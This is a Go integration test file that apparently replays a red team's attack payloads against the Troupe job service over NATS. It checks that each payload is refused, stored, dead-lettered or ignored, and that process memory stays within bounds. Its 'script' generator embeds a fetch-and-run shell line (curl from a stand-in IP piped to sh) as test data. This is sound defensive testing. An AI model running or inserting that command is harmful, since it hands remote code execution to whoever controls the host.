package integration

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/nats-io/nats.go/micro"
	"github.com/stretchr/testify/require"

	"github.com/troupe-dev/troupe/internal/bus"
	"github.com/troupe-dev/troupe/internal/imagecheck/imagechecktest"
	"github.com/troupe-dev/troupe/schemas"
)

// The red team's payloads: what outside testers sent to break Troupe
// (issue 15), kept as data in integration/testdata/redteam/payloads.json
// and sent again on every CI run, against troupe dev (no NATS users: the
// services' own checks must hold) and against the services under their
// least-privilege users (where the server refuses some before any service
// sees them).

// redteamPayload is one attack.
type redteamPayload struct {
	// Name says what it tries.
	Name string `json:"name"`
	// Item is the issue 15 item it comes from.
	Item int `json:"item"`
	// Op is "request" (a request with an inbox of the sender's, whose
	// answer is checked), "publish" (a core NATS publish, with Reply as
	// its reply subject when set) or "js_publish" (a JetStream publish,
	// whose ack is checked).
	Op      string `json:"op"`
	Subject string `json:"subject"`
	Reply   string `json:"reply,omitempty"`
	// Body is the payload as JSON; Text is a raw one instead. In either,
	// "@gen:NAME" is replaced by a generated value (see redteamGenerate).
	Body json.RawMessage `json:"body,omitempty"`
	Text string          `json:"text,omitempty"`
	// Expect is the outcome: "refused" (an error reply whose code is Code
	// and whose message holds Want, or a permissions violation), "stored"
	// (a reply without error: the control), "dead_lettered" (a dead
	// letter whose reason holds Want) or "ignored" (no effect: nothing
	// stored, published or dead-lettered).
	Expect string `json:"expect"`
	Code   string `json:"code,omitempty"`
	Want   string `json:"want,omitempty"`
}

// redteamTarget is a running Troupe under attack.
type redteamTarget struct {
	name string
	// nc is the attacker's connection; api a connection allowed to read
	// jobs and dead letters; streams one allowed to read the streams' info
	// (all the same one in troupe dev).
	nc, api, streams *nats.Conn
	// pids are the Troupe processes whose peak RSS is reported.
	pids []int
	// rssBoundMB is the stated bound on each process's peak RSS.
	rssBoundMB int
	// denied says the server, not a service, refuses what the attacker's
	// user may not publish: a "refused" outcome may then be that.
	leastPrivilege bool
}

var genToken = regexp.MustCompile(`@gen:[a-z0-9_:x]+`)

// generated caches the generated values across the tests that send the
// payloads: a bomb takes seconds to compress.
var generated = struct {
	sync.Mutex
	values map[string]string
}{values: map[string]string{}}

// redteamGenerate returns the base64 value a "@gen:" token stands for.
func redteamGenerate(t *testing.T, token string) string {
	t.Helper()
	parts := strings.Split(strings.TrimPrefix(token, "@gen:"), ":")
	switch parts[0] {
	case "png": // png:WxH:bitdepth:colortype, all-zero pixels
		var w, h, depth, ct int
		_, err := fmt.Sscanf(parts[1], "%dx%d", &w, &h)
		require.NoError(t, err, token)
		depth, _ = strconv.Atoi(parts[2])
		ct, _ = strconv.Atoi(parts[3])
		return base64.StdEncoding.EncodeToString(imagechecktest.ZeroPNG(w, h, depth, ct))
	case "script":
		return base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"))
	case "big": // big:N, N bytes of text
		n, _ := strconv.Atoi(parts[1])
		return strings.Repeat("A", n)
	}
	t.Fatalf("unknown generator %s", token)
	return ""
}

// loadRedteamPayloads reads the payloads, with their generated values.
func loadRedteamPayloads(t *testing.T) []redteamPayload {
	t.Helper()
	data, err := os.ReadFile("testdata/redteam/payloads.json")
	require.NoError(t, err)
	var payloads []redteamPayload
	require.NoError(t, json.Unmarshal(data, &payloads))
	fill := func(s string) string {
		return genToken.ReplaceAllStringFunc(s, func(tok string) string {
			generated.Lock()
			defer generated.Unlock()
			if v, ok := generated.values[tok]; ok {
				return v
			}
			generated.values[tok] = redteamGenerate(t, tok)
			return generated.values[tok]
		})
	}
	for i := range payloads {
		p := &payloads[i]
		require.NotEmpty(t, p.Name)
		require.Contains(t, []string{"request", "publish", "js_publish"}, p.Op, p.Name)
		require.Contains(t, []string{"refused", "stored", "dead_lettered", "ignored"}, p.Expect, p.Name)
		if len(p.Body) > 0 {
			p.Body = json.RawMessage(fill(string(p.Body)))
		}
		p.Text = fill(p.Text)
	}
	return payloads
}

func (p redteamPayload) data() []byte {
	if len(p.Body) > 0 {
		return p.Body
	}
	return []byte(p.Text)
}

// runRedTeam sends every payload to target, then a control job, and
// checks each outcome once the control job has gone through every role
// (so whatever the payloads set moving has settled); it prints the
// reconciliation.
func runRedTeam(t *testing.T, target redteamTarget) {
	payloads := loadRedteamPayloads(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	streamsJS, err := jetstream.New(target.streams)
	require.NoError(t, err)

	outcome := map[string]int{}
	var stored []string
	for _, p := range payloads {
		switch p.Op {
		case "request":
			msg, err := target.nc.RequestMsgWithContext(ctx, &nats.Msg{Subject: p.Subject, Data: p.data()})
			if target.leastPrivilege && bus.IsDenied(err) && p.Expect == "refused" {
				outcome["denied by the server"]++
				continue
			}
			require.NoError(t, err, p.Name)
			code := msg.Header.Get(micro.ErrorCodeHeader)
			switch p.Expect {
			case "refused":
				require.NotEmpty(t, code, "%s: want an error reply, got %s", p.Name, clip(msg.Data))
				var er schemas.ErrorReply
				require.NoError(t, json.Unmarshal(msg.Data, &er), p.Name)
				if p.Code != "" {
					require.Equal(t, p.Code, er.Code, "%s: %s", p.Name, er.Error)
				}
				require.Contains(t, er.Error, p.Want, p.Name)
				outcome["refused with a named error"]++
			case "stored":
				require.Empty(t, code, "%s: %s", p.Name, clip(msg.Data))
				var job schemas.Job
				require.NoError(t, json.Unmarshal(msg.Data, &job), p.Name)
				stored = append(stored, job.ID)
				outcome["stored"]++
			default:
				t.Fatalf("%s: a request is refused or stored, not %s", p.Name, p.Expect)
			}
		case "publish":
			require.NoError(t, target.nc.PublishMsg(&nats.Msg{Subject: p.Subject, Reply: p.Reply, Data: p.data()}), p.Name)
			if target.leastPrivilege && p.Expect == "dead_lettered" {
				// The attacker's user may not publish there: the server
				// drops it, and the checks below see that nothing came of it.
				outcome["denied by the server"]++
			}
		case "js_publish":
			// A JetStream publish is a request its stream answers: with an
			// ack, an error, no responders (no stream takes the subject), or
			// a permissions violation the server reports to the connection.
			err := jsPublish(ctx, target.nc, p.Subject, p.data())
			switch {
			case p.Expect == "refused" && target.leastPrivilege && bus.IsDenied(err):
				outcome["denied by the server"]++
			case p.Expect == "refused":
				require.Error(t, err, "%s: the stream must refuse it", p.Name)
				outcome["refused with a named error"]++
			default:
				require.NoError(t, err, p.Name)
			}
		}
	}
	require.NoError(t, target.nc.Flush())

	// The control job runs through every role: every service has handled
	// what came before it on its subjects by then.
	control, err := submitAndWait(ctx, target.api, schemas.Submission{Title: "Red team control"})
	require.NoError(t, err)
	require.Equal(t, schemas.JobDone, control.Status, "the control job: %+v", control)

	// No job but the stored ones and the control.
	var jobs schemas.JobList
	require.NoError(t, bus.Request(ctx, target.api, "troupe.api.jobs.list", schemas.ListRequest{Limit: 100}, &jobs))
	got := map[string]bool{}
	for _, j := range jobs.Jobs {
		got[j.ID] = true
	}
	want := map[string]bool{control.ID: true}
	for _, id := range stored {
		want[id] = true
	}
	require.Equal(t, want, got, "jobs stored")

	// Every dead letter is one a payload expects, and each expected one is there.
	var dead schemas.DeadLetterList
	require.NoError(t, bus.Request(ctx, target.api, "troupe.api.dlq.list", schemas.DeadLetterListRequest{}, &dead))
	matched := make([]bool, len(dead.DeadLetters))
	for _, p := range payloads {
		if p.Expect != "dead_lettered" || (target.leastPrivilege && p.Op != "request") {
			continue
		}
		found := false
		for i, dl := range dead.DeadLetters {
			if !matched[i] && dl.Subject == p.Subject && strings.Contains(dl.Reason, p.Want) {
				matched[i], found = true, true
				break
			}
		}
		require.True(t, found, "%s: no dead letter on %s whose reason holds %q; dead letters: %+v", p.Name, p.Subject, p.Want, dead.DeadLetters)
		outcome["dead-lettered"]++
	}
	for i, dl := range dead.DeadLetters {
		require.True(t, matched[i], "a dead letter no payload expects: %s on %s: %s", dl.Source, dl.Subject, dl.Reason)
	}
	for _, p := range payloads {
		if p.Expect == "ignored" {
			outcome["ignored"]++
		}
	}

	// The work queues are empty: nothing was stored on a subject no
	// consumer serves.
	for _, stream := range []string{bus.StreamTasks, bus.StreamReview} {
		s, err := streamsJS.Stream(ctx, stream)
		require.NoError(t, err)
		info, err := s.Info(ctx)
		require.NoError(t, err)
		require.Zero(t, info.State.Msgs, "%s holds messages nobody takes", stream)
	}

	peakMB := peakRSS(target.pids)
	var parts []string
	for _, k := range []string{"refused with a named error", "denied by the server", "stored", "dead-lettered", "ignored"} {
		parts = append(parts, fmt.Sprintf("%d %s", outcome[k], k))
	}
	report(t, "red team against %s: %d payloads sent: %s; peak RSS %d MB (bound %d MB)",
		target.name, len(payloads), strings.Join(parts, ", "), peakMB, target.rssBoundMB)
	require.LessOrEqual(t, peakMB, target.rssBoundMB, "peak RSS of a Troupe process")
}

// jsPublish publishes data on subject as a JetStream publish and returns
// the stream's refusal, if any.
func jsPublish(ctx context.Context, nc *nats.Conn, subject string, data []byte) error {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	var ack struct {
		Error *struct {
			Description string `json:"description"`
		} `json:"error"`
	}
	if err := bus.Request(ctx, nc, subject, data, &ack); err != nil {
		return err
	}
	if ack.Error != nil {
		return fmt.Errorf("%s", ack.Error.Description)
	}
	return nil
}

// submitAndWait submits sub and polls the job until it ends.
func submitAndWait(ctx context.Context, nc *nats.Conn, sub schemas.Submission) (schemas.Job, error) {
	var job schemas.Job
	if err := bus.Request(ctx, nc, "troupe.api.jobs.submit", sub, &job); err != nil {
		return job, err
	}
	for {
		if err := bus.Request(ctx, nc, "troupe.api.jobs.get", schemas.IDRequest{ID: job.ID}, &job); err != nil {
			return job, err
		}
		switch job.Status {
		case schemas.JobRunning, schemas.JobPlanning:
		default:
			return job, nil
		}
		select {
		case <-ctx.Done():
			return job, ctx.Err()
		case <-time.After(50 * time.Millisecond):
		}
	}
}

func clip(b []byte) string {
	if len(b) > 300 {
		return string(b[:300]) + "…"
	}
	return string(b)
}

// peakRSS returns the largest peak resident memory (VmHWM, which the
// kernel keeps for the process's whole life), in MB, of the processes.
func peakRSS(pids []int) int {
	peak := 0
	for _, pid := range pids {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
		if err != nil {
			continue
		}
		for _, line := range strings.Split(string(data), "\n") {
			if rest, ok := strings.CutPrefix(line, "VmHWM:"); ok {
				kb, _ := strconv.Atoi(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")))
				peak = max(peak, kb/1024)
			}
		}
	}
	return peak
}

// TestRedTeamDev: the red team's payloads against troupe dev, on SQLite
// and on PostgreSQL, where no NATS user stops anything and the services'
// own checks must.
func TestRedTeamDev(t *testing.T) {
	forEachStore(t, func(t *testing.T, storeArgs []string) {
		d := startDev(t, storeArgs...)
		name := "troupe dev on SQLite"
		if storeArgs != nil {
			name = "troupe dev on PostgreSQL"
		}
		runRedTeam(t, redteamTarget{name: name, nc: d.NC, api: d.NC, streams: d.NC, pids: []int{d.cmd.Process.Pid}, rssBoundMB: 512})
	})
}

// TestRedTeamLeastPrivilege: the same payloads sent with the client's
// user to the services, each under its own NATS user and PostgreSQL role:
// what the client may not publish the server refuses, and the rest the
// services must.
func TestRedTeamLeastPrivilege(t *testing.T) {
	t.Parallel()
	cfg := writeConfig(t, `{"reliability": {"reconcileInterval": "1s", "staleAfter": "10s"}}`)
	d := startLeastPrivilege(t, cfg)
	attacker := connectAs(t, d.node.url(), d.creds("client"))
	var pids []int
	for _, s := range d.procs {
		pids = append(pids, s.p.cmd.Process.Pid)
	}
	admin := connectAs(t, d.node.url(), d.creds("admin"))
	runRedTeam(t, redteamTarget{name: "the services under least-privilege users", nc: attacker, api: attacker, streams: admin, pids: pids,
		rssBoundMB: 256, leastPrivilege: true})
}
